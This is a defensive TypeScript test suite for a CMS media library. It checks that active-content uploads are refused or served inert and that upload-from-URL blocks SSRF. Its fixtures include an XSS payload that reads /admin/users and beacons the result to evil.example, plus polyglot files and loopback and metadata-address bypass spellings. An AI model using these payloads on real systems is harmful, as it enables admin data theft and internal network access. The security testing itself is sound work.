// The Media Library as an Author uses it, and as an attacker would: active content (HTML,
// JavaScript, SVG with script, polyglots, misnamed files) must be refused, or at the very least
// never served as something a browser runs on the admin's origin. Upload-from-URL must not reach
// the CMS itself or the machine's private network, directly, by another spelling of an address,
// or through a redirect.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { networkInterfaces } from 'node:os'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { cms, stack, type Answer } from '../support/http'
import { staff, type Staff } from '../support/staff'

// A valid 1×1 PNG.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64')
const SCRIPT = '<script>fetch("/admin/users").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script>'

let author: Staff

function upload(name: string, type: string, bytes: Buffer | string): Promise<Answer> {
  const form = new FormData()
  form.append('files', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }), name)
  form.append('fileInfo', JSON.stringify({ name, alternativeText: 'A probe file' }))
  return author.call('POST', '/upload', form)
}

const uploadedUrl = (result: Answer): string | undefined => (Array.isArray(result.json) ? result.json[0]?.url : result.json?.data?.[0]?.url)

/**
 * Refused with a 4xx; or, if the CMS kept the file, it is served so that no browser runs it:
 * never as HTML/XHTML, SVG only inside a sandbox, nosniff always, anything else as a download.
 */
async function expectHarmless(result: Answer): Promise<void> {
  expect(result.status, result.text).toBeLessThan(500)
  if (result.status >= 400) return
  const url = uploadedUrl(result)
  expect(url, result.text).toBeTruthy()
  const served = await cms(url!)
  const type = served.headers.get('content-type') ?? ''
  expect(served.headers.get('x-content-type-options')).toBe('nosniff')
  if (/svg/i.test(type)) expect(served.headers.get('content-security-policy') ?? '').toMatch(/sandbox/)
  else expect(type).not.toMatch(/html|xml|javascript|ecmascript/i)
  if (!/^image\/(png|jpeg|gif|webp|avif)/i.test(type)) expect(served.headers.get('content-disposition') ?? '').toMatch(/attachment/)
}

let ownImageUrl: string

beforeAll(async () => {
  author = await staff('author')
  const image = await upload('real-photo.png', 'image/png', PNG)
  expect(image.status, image.text).toBeLessThan(300)
  ownImageUrl = uploadedUrl(image)!
})

describe('uploads as an Author', () => {
  it('a real image is accepted and served with nosniff', async () => {
    const served = await cms(ownImageUrl)
    expect(served.status).toBe(200)
    expect(served.headers.get('content-type')).toMatch(/^image\/png/)
    expect(served.headers.get('x-content-type-options')).toBe('nosniff')
  })

  it.each([
    ['an HTML page', 'takeover.html', 'text/html', `<!doctype html><title>x</title>${SCRIPT}`],
    ['an HTML page named .png', 'photo.png', 'image/png', `<!doctype html>${SCRIPT}`],
    ['an HTML page sent as application/octet-stream', 'notes', 'application/octet-stream', `<html>${SCRIPT}</html>`],
    ['XHTML', 'page.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`],
    ['JavaScript', 'app.js', 'text/javascript', 'alert(document.domain)'],
    ['an SVG with a script', 'logo.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
    ['an SVG named .png', 'logo.png', 'image/png', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`],
    ['a GIF/HTML polyglot', 'animation.gif', 'image/gif', `GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;${SCRIPT}`],
    ['a PNG with HTML appended', 'tail.png', 'image/png', Buffer.concat([PNG, Buffer.from(`<html>${SCRIPT}</html>`)])],
    ['a PDF', 'leaflet.pdf', 'application/pdf', '%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF'],
  ])('%s is refused or served inert', async (_name, name, type, bytes) => {
    await expectHarmless(await upload(name, type, bytes))
  })
})

/** Runs an upload-from-URL and returns the whole event stream (or the refusal). */
function uploadFromUrl(url: string): Promise<Answer> {
  return author.call('POST', '/upload/actions/upload-from-urls', { urls: [url] })
}

async function expectNotFetched(result: Answer): Promise<void> {
  expect(result.status, result.text).toBeLessThan(500)
  expect(result.text).not.toContain('file:complete')
  if (result.status === 200) expect(result.text).toContain('file:error')
}

describe('upload from URL as an Author', () => {
  let redirector: Server

  beforeAll(async () => {
    // The attacker's own server, on the machine's outward address: it redirects to the CMS.
    redirector = createServer((req, res) => {
      res.writeHead(302, { location: `${stack().cmsUrl}${ownImageUrl}` })
      res.end()
    })
    await new Promise<void>((resolve) => redirector.listen(0, '0.0.0.0', resolve))
  })
  afterAll(() => new Promise<void>((resolve) => redirector.close(() => resolve())))

  const port = () => new URL(stack().cmsUrl).port
  it.each([
    ['127.0.0.1', () => `http://127.0.0.1:${port()}`],
    ['0.0.0.0', () => `http://0.0.0.0:${port()}`],
    ['localhost', () => `http://localhost:${port()}`],
    ['[::1]', () => `http://[::1]:${port()}`],
    ['[::ffff:127.0.0.1]', () => `http://[::ffff:127.0.0.1]:${port()}`],
    ['[::]', () => `http://[::]:${port()}`],
    ['127.0.0.1 as one number', () => `http://2130706433:${port()}`],
    ['127.0.0.1 in hex', () => `http://0x7f.0.0.1:${port()}`],
    ['a link-local metadata address', () => 'http://169.254.169.254'],
    ['a private network address', () => `http://10.0.0.1:${port()}`],
  ])('%s is not fetched', async (_name, origin) => {
    await expectNotFetched(await uploadFromUrl(`${origin()}${ownImageUrl}`))
  })

  it('a redirect from an outside address to the CMS is not followed', async () => {
    const { port: redirectPort } = redirector.address() as AddressInfo
    await expectNotFetched(await uploadFromUrl(`http://${outwardAddress()}:${redirectPort}/photo.png`))
  })
})

/** This machine's first non-loopback IPv4 address (where an outside server would be reached). */
function outwardAddress(): string {
  for (const addresses of Object.values(networkInterfaces())) {
    for (const address of addresses ?? []) if (address.family === 'IPv4' && !address.internal) return address.address
  }
  return '127.0.0.1'
}
